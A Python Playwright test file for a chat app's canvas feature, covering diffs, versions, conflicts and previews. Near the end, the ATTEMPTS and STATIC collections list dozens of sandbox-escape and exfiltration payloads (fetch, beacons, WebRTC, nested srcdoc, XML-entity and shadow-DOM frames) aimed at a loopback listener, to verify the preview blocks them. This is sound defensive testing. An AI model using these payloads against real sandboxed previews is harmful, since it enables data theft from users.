"""A canvas beside a conversation: opened from an answer, edited by person and model, compared, previewed."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Callable, Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, Route, expect

from tests.browser.axe import check
from tests.browser.conftest import Opening, Watch
from tests.browser.served import Served
from tests.browser.test_chat import answer, composer, finished, send

LETTER = "# A letter\n\nDear Ada,\n\nthe bred is ready.\n\nYours, Grace"


def pane(page: Page) -> Locator:
    return page.get_by_role("complementary", name="Canvas")


def field(page: Page) -> Locator:
    return pane(page).get_by_role("textbox", name="Canvas text")


def open_block(page: Page, text: str, language: str = "markdown") -> None:
    """Have `text` answered as a block of code, and open that in a canvas."""
    send(page, f"script: below=1\n````{language}\n{text}\n````\n")
    finished(page)
    answer(page).get_by_role("button", name="Open in canvas").click()
    expect(pane(page)).to_be_visible()


def change(page: Page, reply: str) -> None:
    ask = pane(page).get_by_role("textbox", name="Say what to change")
    ask.fill(f"script: say={reply}")
    ask.press("Enter")


def versions(page: Page) -> Locator:
    return pane(page).get_by_role("list", name="Versions").get_by_role("listitem")


def stored(page: Page) -> str:
    """The current text of the only canvas, from the server."""
    found = re.search(r"/c/(\w+)$", page.url)
    assert found is not None
    path = f"/api/conversations/{found[1]}/canvases"
    canvas: dict[str, Any] = page.request.get(path).json()["canvases"][0]
    return str(page.request.get(f"{path}/{canvas['id']}").json()["text"])


def write_elsewhere(page: Page, text: str) -> None:
    """Store `text` as a new version of the only canvas, as another page would."""
    found = re.search(r"/c/(\w+)$", page.url)
    assert found is not None
    path = f"/api/conversations/{found[1]}/canvases"
    canvas: dict[str, Any] = page.request.get(path).json()["canvases"][0]
    added = page.request.post(f"{path}/{canvas['id']}/versions", data={"parent": canvas["current"], "text": text})
    assert added.ok


def test_an_answer_opens_is_typed_in_and_comes_back(page: Page) -> None:
    send(page, f"script: below=1\n{LETTER}")
    finished(page, "Yours, Grace")
    answer(page).get_by_role("button", name="More").click()
    page.get_by_role("menuitem", name="Open in canvas").click()
    expect(pane(page).get_by_role("textbox", name="Title")).to_have_value("A letter")
    expect(field(page)).to_contain_text("Dear Ada")
    field(page).click()
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type(" Hopper")
    page.keyboard.press("ControlOrMeta+s")
    pane(page).get_by_role("button", name="Versions").click()
    expect(versions(page)).to_have_count(2)
    expect(versions(page).first).to_contain_text("You")
    expect(versions(page).last).to_contain_text("Scripted")
    page.reload()
    card = page.get_by_role("list", name="Canvases").get_by_role("button", name=re.compile("A letter"))
    card.click()
    expect(field(page)).to_contain_text("Grace Hopper")
    expect(pane(page).get_by_role("textbox", name="Title")).to_be_focused()
    page.keyboard.press("Escape")
    expect(pane(page)).to_be_hidden()
    expect(card).to_be_focused()


def begin(page: Page, kind: str) -> None:
    """Open an empty canvas of a kind."""
    page.get_by_role("button", name="New canvas").click()
    page.get_by_role("menuitem", name=kind, exact=True).click()
    expect(pane(page).get_by_role("textbox", name="Title")).to_have_value("Canvas")


def test_an_empty_canvas_is_stored_once_something_is_written_in_it(page: Page) -> None:
    stored = page.request.get("/api/count").json()["conversations"]
    composer(page).fill("a draft")
    begin(page, "Text")
    pane(page).get_by_role("combobox", name="Kind").select_option("Python")
    pane(page).get_by_role("button", name="Close").click()
    expect(page.get_by_role("button", name="New canvas")).to_be_focused()
    expect(composer(page)).to_have_value("a draft")
    composer(page).fill("/canv")
    composer(page).press("Enter")
    expect(pane(page)).to_be_visible()
    expect(page).to_have_url(re.compile(r"/$"))
    assert page.request.get("/api/count").json()["conversations"] == stored
    field(page).press_sequentially("Dear Ada")
    pane(page).get_by_role("button", name="Close").click()
    expect(page).to_have_url(re.compile(r"/c/conv_\w+$"))
    assert page.request.get("/api/count").json()["conversations"] == stored + 1
    page.get_by_role("list", name="Canvases").get_by_role("button").click()
    expect(field(page)).to_have_text("Dear Ada")


def test_an_empty_canvas_is_the_persons_until_a_model_writes_in_it(page: Page) -> None:
    begin(page, "Text")
    pane(page).get_by_role("textbox", name="Title").fill("Bread")
    page.keyboard.press("Escape")
    cards = page.get_by_role("list", name="Canvases").get_by_role("listitem")
    cards.get_by_role("button", name="Bread").click()
    pane(page).get_by_role("button", name="Versions").click()
    expect(versions(page)).to_have_count(1)
    expect(versions(page)).to_contain_text("You")
    ask = pane(page).get_by_role("textbox", name="Say what to write")
    ask.fill("script: say=# Bread⏎⏎It is ready.")
    ask.press("Enter")
    pane(page).get_by_role("button", name="Accept").click()
    expect(field(page)).to_contain_text("It is ready.")
    expect(versions(page).first).to_contain_text("Scripted")
    expect(pane(page).get_by_role("textbox", name="Say what to change")).to_be_visible()
    page.reload()
    send(page, "script: say=Hello.")
    finished(page, "Hello.")
    expect(cards).to_have_count(1)


def test_a_message_beside_an_empty_canvas_finds_it(page: Page) -> None:
    begin(page, "Code")
    send(page, "script: say=Hello.")
    finished(page, "Hello.")
    card = page.get_by_role("list", name="Canvases").get_by_role("button")
    expect(card).to_have_attribute("aria-current", "true")
    field(page).click()
    page.keyboard.type("print")
    page.keyboard.press("ControlOrMeta+s")
    expect(card).to_contain_text("Version 2")
    page.keyboard.type("()")
    expect(field(page)).to_have_text("print()")
    send(page, "script: say=Again.")
    finished(page, "Again.")
    expect(card).to_contain_text("Version 3")


def test_a_new_canvas_is_of_a_kind_that_can_be_changed(page: Page) -> None:
    begin(page, "Web page")
    kind = pane(page).get_by_role("combobox", name="Kind")
    expect(kind).to_have_value("html")
    ask = pane(page).get_by_role("textbox", name="Say what to write")
    ask.fill("script: say=<h1>Bread</h1>")
    ask.press("Enter")
    pane(page).get_by_role("button", name="Accept").click()
    pane(page).get_by_role("button", name="Preview").click()
    expect(pane(page).frame_locator("iframe").get_by_role("heading", name="Bread")).to_be_visible()
    kind.select_option("Python")
    expect(pane(page).get_by_role("button", name="Preview")).to_have_count(0)
    expect(field(page)).to_have_text("<h1>Bread</h1>")
    card = page.get_by_role("list", name="Canvases").get_by_role("button")
    expect(card).to_contain_text("Python")
    composer(page).fill("/diagram")
    composer(page).press("Enter")
    expect(kind).to_have_value("mermaid")
    field(page).press_sequentially("flowchart")
    expect(card.filter(has_text="Mermaid")).to_be_visible()


def test_a_temporary_chat_says_why_it_has_no_canvas(page: Page) -> None:
    page.goto("/temporary")
    button = page.get_by_role("button", name="New canvas")
    expect(button).to_be_disabled()
    button.click(force=True)
    expect(page.get_by_text("Canvases aren’t available in a temporary chat").filter(visible=True).first).to_be_visible()


def test_a_model_changes_the_text_as_a_diff_that_is_accepted_or_undone(page: Page) -> None:
    open_block(page, LETTER)
    change(page, "[5] the bread is ready.")
    expect(pane(page).locator(".cm-deletedChunk")).to_contain_text("the bred is ready.")
    expect(field(page)).to_contain_text("the bread is ready.")
    pane(page).get_by_role("button", name="Undo").click()
    expect(field(page)).to_contain_text("the bred is ready.")
    change(page, "[5] the bread is ready.")
    pane(page).get_by_role("button", name="Accept").click()
    expect(pane(page).locator(".cm-deletedChunk")).to_have_count(0)
    expect(field(page)).to_contain_text("the bread is ready.")
    pane(page).get_by_role("button", name="Versions").click()
    expect(versions(page)).to_have_count(2)
    expect(versions(page).first).to_contain_text("script: say=[5] the bread is ready.")


def test_undoing_takes_back_an_accepted_change_at_once_and_nothing_of_one_that_was_not(page: Page) -> None:
    open_block(page, "one\ntwo\nthree", "plaintext")
    lines = field(page).locator(".cm-line")
    field(page).click()
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type("!")
    page.keyboard.press("ControlOrMeta+s")
    change(page, "[2] 2")
    pane(page).get_by_role("button", name="Undo").click()
    expect(lines).to_have_text(["one", "two", "three!"])
    field(page).click()
    page.keyboard.press("ControlOrMeta+z")
    expect(lines).to_have_text(["one", "two", "three"])
    page.keyboard.press("ControlOrMeta+z")
    expect(lines).to_have_text(["one", "two", "three"])
    change(page, "[1] 1⏎[2] 2⏎[3] 3")
    pane(page).get_by_role("button", name="Accept").click()
    expect(lines).to_have_text(["1", "2", "3"])
    field(page).click()
    page.keyboard.press("ControlOrMeta+z")
    expect(lines).to_have_text(["one", "two", "three"])


def test_a_selection_alone_is_changed(page: Page) -> None:
    open_block(page, "one\ntwo\nthree", "plaintext")
    field(page).click()
    page.keyboard.press("ControlOrMeta+Home")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Shift+End")
    pane(page).get_by_role("button", name="Change this…").click()
    expect(pane(page).get_by_text("Selection", exact=True)).to_be_visible()
    change(page, "[1] 2")
    pane(page).get_by_role("button", name="Accept").click()
    expect(field(page).locator(".cm-line")).to_have_text(["one", "2", "three"])


def test_what_the_model_gets_wrong_is_said_and_nothing_changes(page: Page) -> None:
    open_block(page, LETTER)
    change(page, "It is fine.")
    expect(pane(page).get_by_role("alert")).to_contain_text("no usable changes")
    expect(field(page)).to_contain_text("the bred is ready.")


def test_versions_are_named_compared_and_restored(page: Page) -> None:
    open_block(page, "alpha beta\n", "plaintext")
    field(page).click()
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type("gamma")
    page.keyboard.press("ControlOrMeta+s")
    pane(page).get_by_role("button", name="Versions").click()
    expect(versions(page)).to_have_count(2)
    versions(page).last.hover()
    versions(page).last.get_by_role("button", name="Rename: Version 1").click()
    name = pane(page).get_by_role("textbox", name="Name of this version")
    name.fill("First draft")
    name.press("Enter")
    versions(page).last.get_by_role("button", name=re.compile("^First draft")).click()
    expect(pane(page).locator(".cm-deletedChunk")).to_contain_text("gamma")
    pane(page).get_by_role("button", name="Restore").click()
    expect(versions(page)).to_have_count(3)
    expect(field(page)).not_to_contain_text("gamma")
    expect(pane(page).locator(".cm-deletedChunk")).to_have_count(0)


def test_a_second_tab_follows_and_a_conflict_loses_nothing(page: Page) -> None:
    open_block(page, "one", "plaintext")
    other = page.context.new_page()
    other.goto(page.url)
    other.get_by_role("list", name="Canvases").get_by_role("button").click()
    field(other).click()
    other.keyboard.press("ControlOrMeta+End")
    other.keyboard.type(" two")
    other.keyboard.press("ControlOrMeta+s")
    expect(field(page)).to_have_text("one two")
    address = re.search(r"/c/(\w+)$", page.url)
    assert address is not None
    path = f"/api/conversations/{address[1]}/canvases"
    script = """async ([path, text]) => {
      const { canvases: [{ id, current }] } = await (await fetch(path)).json();
      await fetch(`${path}/${id}/versions`, { method: "POST", body: JSON.stringify({ parent: current, text }) });
    }"""
    field(page).click()
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type(" mine")
    other.evaluate(script, [path, "one theirs"])
    page.keyboard.press("ControlOrMeta+s")
    expect(pane(page).get_by_text("What you wrote is kept as version 4.")).to_be_visible()
    expect(field(page)).to_have_text("one theirs")
    pane(page).get_by_role("button", name="Compare").click()
    expect(field(page)).to_contain_text("one two mine")
    pane(page).get_by_role("button", name="Restore").click()
    expect(field(other)).to_have_text("one two mine")


def test_nothing_typed_while_a_save_meets_another_tabs_is_lost(page: Page) -> None:
    open_block(page, "one", "plaintext")
    held: list[Route] = []
    page.route("**/versions", lambda route: held.append(route) if not held else route.continue_())
    field(page).click()
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type(" mine")
    page.keyboard.press("ControlOrMeta+s")
    expect(pane(page).get_by_role("status").filter(has_text="…")).to_be_visible()
    write_elsewhere(page, "one theirs")
    page.keyboard.type(" and more")
    held[0].continue_()
    expect(pane(page).get_by_role("status").filter(has_text="•")).to_be_visible()
    expect(field(page)).to_have_text("one mine and more")
    page.keyboard.type(" still")
    expect(pane(page).get_by_text("What you wrote is kept as version 4.")).to_be_visible()
    expect(field(page)).to_have_text("one theirs")
    pane(page).get_by_role("button", name="Compare").click()
    expect(field(page)).to_contain_text("one mine and more still")
    pane(page).get_by_role("button", name="Restore").click()
    expect(pane(page).get_by_role("status").filter(has_text="Saved")).to_be_visible()
    assert stored(page) == "one mine and more still"


def test_leaving_asks_while_what_was_typed_is_on_its_way(page: Page) -> None:
    open_block(page, "one", "plaintext")
    page.route("**/versions", lambda route: None)
    field(page).click()
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type(" mine")
    page.keyboard.press("ControlOrMeta+s")
    expect(pane(page).get_by_role("status").filter(has_text="…")).to_be_visible()
    with page.expect_event("dialog") as asked:
        page.evaluate("() => void setTimeout(() => location.reload())")
    assert asked.value.type == "beforeunload"
    asked.value.dismiss()
    expect(field(page)).to_have_text("one mine")
    page.unroute_all(behavior="ignoreErrors")


def test_a_component_runs_and_says_what_it_lacks(page: Page, watches: list[Watch]) -> None:
    watches[-1].forgive("recharts")
    source = (
        'import { useState } from "react";\n'
        'import { useMemo } from "preact/hooks";\n'
        "export default function Counter() {\n"
        "  const [count, setCount] = useState<number>(0);\n"
        "  const label = useMemo(() => `Pressed ${count}`, [count]);\n"
        "  return <button onClick={() => setCount(count + 1)}>{label}</button>;\n}"
    )
    open_block(page, source, "tsx")
    button = pane(page).frame_locator("iframe").get_by_role("button", name="Pressed 0")
    button.click()
    expect(pane(page).frame_locator("iframe").get_by_role("button", name="Pressed 1")).to_be_visible()
    pane(page).get_by_role("button", name="Edit", exact=True).click()
    field(page).click()
    page.keyboard.press("ControlOrMeta+Home")
    page.keyboard.type('import "recharts";\n')
    pane(page).get_by_role("button", name="Preview").click()
    expect(pane(page).get_by_text("The preview can’t load “recharts”.")).to_be_visible()


def test_pictures_and_diagrams_are_shown(page: Page) -> None:
    open_block(page, '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle r="20"/></svg>', "svg")
    expect(pane(page).get_by_role("img")).to_be_visible()
    page.keyboard.press("Escape")
    open_block(page, "flowchart LR\n  A --> B", "mermaid")
    expect(pane(page).get_by_role("img", name=re.compile("^Diagram"))).to_be_visible()


class _Listener(BaseHTTPRequestHandler):
    heard: list[str]

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def listening() -> Generator[tuple[int, int, list[str], list[bytes]]]:
    """A second server on loopback, for TCP and for UDP: their ports, and all that came to them."""
    heard: list[str] = []
    packets: list[bytes] = []
    web = ThreadingHTTPServer(("127.0.0.1", 0), type("Listener", (_Listener,), {"heard": heard}))
    opened = web.get_request

    def get_request() -> tuple[socket.socket, object]:
        connection = opened()
        heard.append("a connection")
        return connection

    web.get_request = get_request  # pyright: ignore[reportAttributeAccessIssue]
    threading.Thread(target=web.serve_forever, daemon=True).start()
    stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stun.bind(("127.0.0.1", 0))

    def receive() -> None:
        while data := stun.recv(2000):
            packets.append(data)

    thread = threading.Thread(target=receive, daemon=True)
    thread.start()
    try:
        yield web.server_port, stun.getsockname()[1], heard, packets
    finally:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.sendto(b"", stun.getsockname())
        thread.join()
        stun.close()
        web.shutdown()
        web.server_close()


CALL = """
const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]});
pc.createDataChannel("x"); pc.createOffer().then((offer) => pc.setLocalDescription(offer));
"""
NESTED = f"<script>{CALL}</scr\\' + \\'ipt>".replace("\n", "")

ATTEMPTS = {
    "fetch": 'fetch("http://127.0.0.1:TCP/fetch")',
    "XMLHttpRequest": 'const x = new XMLHttpRequest(); x.open("GET", "http://127.0.0.1:TCP/xhr"); x.send()',
    "img": 'new Image().src = "http://127.0.0.1:TCP/img"',
    "WebSocket": 'new WebSocket("ws://127.0.0.1:TCP/ws")',
    "EventSource": 'new EventSource("http://127.0.0.1:TCP/es")',
    "beacon": 'navigator.sendBeacon("http://127.0.0.1:TCP/beacon", "x")',
    "style": 'document.head.innerHTML += "<style>@import url(http://127.0.0.1:TCP/css)</style>"',
    "font": 'new FontFace("x", "url(http://127.0.0.1:TCP/font)").load()',
    "import": 'import("http://127.0.0.1:TCP/module.js")',
    "script": """const s = document.createElement("script"); s.src = "http://127.0.0.1:TCP/s.js";
      document.body.append(s)""",
    "video": 'const v = document.createElement("video"); v.src = "http://127.0.0.1:TCP/v"; document.body.append(v)',
    "form": """const f = document.createElement("form"); f.action = "http://127.0.0.1:TCP/form"; f.method = "post";
      document.body.append(f); f.submit()""",
    "popup": 'window.open("http://127.0.0.1:TCP/popup")',
    "link": """for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "stylesheet"]) {
      const l = document.createElement("link"); l.rel = rel; l.href = "http://127.0.0.1:TCP/" + rel;
      document.head.append(l) }""",
    "link by namespace": """const l = document.createElementNS("http://www.w3.org/1999/xhtml", "link");
      l.rel = "preconnect"; l.href = "http://127.0.0.1:TCP/ns"; document.head.append(l)""",
    "link by clone": """const t = document.createElement("template");
      t.innerHTML = '<link rel="preconnect" href="http://127.0.0.1:TCP/clone">';
      document.head.append(t.content.cloneNode(true))""",
    "speculation": """const s = document.createElement("script"); s.type = "speculationrules";
      s.textContent = JSON.stringify({prefetch: [{source: "list", urls: ["http://127.0.0.1:TCP/rules"]}]});
      document.head.append(s)""",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://127.0.0.1:TCP/worker\")'])))",
    "ping": """const a = document.createElement("a"); a.href = "#x"; a.ping = "http://127.0.0.1:TCP/ping";
      document.body.append(a); a.click()""",
    "WebRTC": CALL,
    "WebRTC of the parent": f"const w = window.parent; new w.RTCPeerConnection(); {CALL}",
    "srcdoc": f"const i = document.createElement('iframe'); i.srcdoc = '{NESTED}'; document.body.append(i)",
    "srcdoc by attribute": f"""const i = document.createElement('iframe'); i.setAttribute('srcdoc', '{NESTED}');
      document.body.append(i)""",
    "srcdoc by HTML": f"""document.body.insertAdjacentHTML('beforeend',
      '<iframe srcdoc="' + '{NESTED}'.replaceAll('"', '&quot;') + '"></iframe>')""",
    "frame by namespace": f"""const i = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe');
      i.setAttribute('srcdoc', '{NESTED}'); document.body.append(i)""",
    "frame by XML": f"""const space = 'http://www.w3.org/1999/xhtml';
      const d = new DOMParser().parseFromString('<x:iframe xmlns:x="' + space + '" srcdoc="'
      + '{NESTED}'.replaceAll('<', '&lt;').replaceAll('"', '&quot;') + '"/>', 'application/xhtml+xml');
      document.body.append(document.importNode(d.documentElement, true))""",
    "frame by entity": f"""const inner = '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="'
      + '{NESTED}'.replaceAll('<', '&lt;').replaceAll('"', '&quot;') + '"/>';
      const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY a \\'' + inner.replaceAll('<', '&#60;')
      + '\\'>]><x>&a;</x>', 'application/xml');
      document.body.append(...[...d.documentElement.children].map((e) => document.importNode(e, true)))""",
    "frame in a shadow": f"""const d = document.createElement('div'); document.body.append(d);
      const i = Document.prototype.createElement.call(document, 'iframe'); i.srcdoc = '{NESTED}';
      d.attachShadow({{mode: 'closed'}}).append(i)""",
    "frame by write": f"""document.write('<ifr');
      document.write('ame srcdoc="' + '{NESTED}'.replaceAll('"', '&quot;') + '">')""",
    "javascript address": """const i = document.createElement('iframe');
      i.src = 'javascript:' + encodeURIComponent(CODE); document.body.append(i)""".replace("CODE", repr(CALL)),
    "blob frame": f"""const i = document.createElement('iframe');
      i.src = URL.createObjectURL(new Blob(['{NESTED}'], {{type: 'text/html'}})); document.body.append(i)""",
    "object": f"""const o = document.createElement('object'); o.type = 'text/html';
      o.data = URL.createObjectURL(new Blob(['{NESTED}'], {{type: 'text/html'}})); document.body.append(o)""",
    "bare frame": """const i = document.createElement('iframe'); document.body.append(i);
      const pc = new i.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
      pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer))""",
    "top navigation": 'window.top.location = "http://127.0.0.1:TCP/top"',
    "parent": 'parent.document.title = "taken"',
    "storage": 'localStorage.setItem("x", "y")',
    "cookie": """document.cookie = "x=y";
      fetch("/api/about").then((r) => r.text()).then((t) => parent.postMessage({error: "read " + t}, "*"))""",
}
STATIC = """
<link rel="preconnect" href="http://127.0.0.1:TCP"><link rel="dns-prefetch" href="http://127.0.0.1:TCP">
<link rel="stylesheet" href="http://127.0.0.1:TCP/css"><base href="http://127.0.0.1:TCP/base/">
<img src="http://127.0.0.1:TCP/img" srcset="http://127.0.0.1:TCP/set 2x"><video src="http://127.0.0.1:TCP/v"></video>
<iframe src="http://127.0.0.1:TCP/frame"></iframe><object data="http://127.0.0.1:TCP/object"></object>
<embed src="http://127.0.0.1:TCP/embed"><div style="background: url(http://127.0.0.1:TCP/bg)">x</div>
<script src="http://127.0.0.1:TCP/s.js"></script><svg><image href="http://127.0.0.1:TCP/svg"/></svg>
<IFRAME srcdoc="<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o))</script>"></IFRAME>
<link rel="prefetch" href="http://127.0.0.1:TCP/prefetch"><p>Static</p>
"""
"""Attempts in the markup itself, which no script makes."""


def test_nothing_leaves_the_preview(opening: Opening, shared: Served, watches: list[Watch]) -> None:
    page = opening(shared).new_page()
    watches[-1].forgive("")
    page.goto("/")
    with listening() as (tcp, udp, heard, packets):

        def placed(text: str) -> str:
            return text.replace("TCP", str(tcp)).replace("UDP", str(udp))

        tries = "\n".join(f"<script>try {{ {placed(each)} }} catch {{}}</script>" for each in ATTEMPTS.values())
        open_block(page, f"<!doctype html><title>Hostile</title>{placed(STATIC)}{tries}<h1>Done</h1>", "html")
        expect(pane(page).frame_locator("iframe").get_by_role("heading", name="Done")).to_be_visible()
        expect(pane(page).frame_locator("iframe").get_by_text("Static")).to_be_visible()
        frame = pane(page).locator("iframe").element_handle().content_frame()
        assert frame is not None
        assert frame.evaluate("typeof RTCPeerConnection") == "undefined"
        page.wait_for_timeout(1500)  # a packet or request that is on its way has come by then
        assert (heard, packets) == ([], [])
        assert page.url.startswith(shared.address)
        assert page.evaluate("localStorage.getItem('x')") is None
        expect(pane(page)).not_to_contain_text("read ")


def test_a_page_cannot_lead_its_frame_elsewhere(opening: Opening, shared: Served, watches: list[Watch]) -> None:
    page = opening(shared).new_page()
    watches[-1].forgive("")
    page.goto("/")
    with listening() as (tcp, _, heard, _packets):
        open_block(page, f'<h1>Here</h1><script>location = "http://127.0.0.1:{tcp}/self?leak"</script>', "html")
        page.wait_for_timeout(1000)  # as above
        assert heard == []


@pytest.mark.parametrize("width", [320, 1400])
def test_everybody_can_use_it(look: Callable[..., Page], width: int) -> None:
    page = look(width)
    page.goto("/")
    if width == 320:
        page.get_by_role("button", name="Tools").click()
        check(page)
        page.get_by_role("group", name="New canvas").get_by_role("button", name="Diagram").click()
        expect(pane(page).get_by_role("combobox", name="Kind")).to_have_value("mermaid")
        check(page)
        pane(page).get_by_role("button", name="Close").click()
    open_block(page, LETTER)
    expect(field(page)).to_be_visible()
    pane(page).get_by_role("button", name="Versions").click()
    expect(versions(page)).to_have_count(1)
    check(page)
    change(page, "[5] the bread is ready.")
    expect(pane(page).get_by_role("button", name="Accept")).to_be_focused()
    check(page)
